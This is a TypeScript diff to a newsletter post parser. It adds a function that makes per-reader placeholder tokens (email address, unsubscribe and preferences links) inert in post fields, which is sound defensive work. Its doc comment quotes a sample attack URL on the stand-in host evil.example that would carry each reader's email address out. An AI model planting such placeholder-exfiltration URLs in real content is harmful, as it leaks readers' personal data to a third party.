@@ -1,5 +1,6 @@
 import { marked } from 'marked';
 import { z } from 'zod';
+import { TOKEN_PATTERN } from '../render/personal.js';
 import { plainLine, slugify, truncateWords } from '../text.js';
 import { parsePostDate } from '../time.js';
 import { splitFrontMatter } from './front-matter.js';
@@ -84,7 +85,26 @@ export function parsePost(source: string, context: ParseContext): ParsedPost {
     ...(fields.image ? { image: { src: fields.image, alt: fields.imageAlt && plainLine(fields.imageAlt) } } : {}),
   };
   if (!post.title) problems.push(problem(lineOf('title'), 'title: is empty once markup is removed'));
-  return problems.some((p) => p.severity === 'error') ? { problems } : { post, problems };
+  return problems.some((p) => p.severity === 'error') ? { problems } : { post: inertPost(post), problems };
+}
+
+/**
+ * The per-reader placeholders (address, unsubscribe and preferences links) are filled in after
+ * rendering; written into a post (`url: https://evil.example/?e=zzpersonalemailzz`) they would hand
+ * every reader's address and links to another site. In post text they are made inert.
+ */
+function inertPost(post: Post): Post {
+  const inert = (text: string) => text.replace(TOKEN_PATTERN, (token) => token.replace(/^zz/, 'zz-'));
+  return {
+    ...post,
+    title: inert(post.title),
+    author: inert(post.author),
+    categories: post.categories.map(inert),
+    tags: post.tags.map(inert),
+    excerpt: inert(post.excerpt),
+    url: inert(post.url),
+    ...(post.image ? { image: { src: inert(post.image.src), alt: post.image.alt && inert(post.image.alt) } } : {}),
+  };
 }
 
 /** `2023-05-24-china-trade.md` → `china-trade`: the date prefix is for sorting files, not identity. */
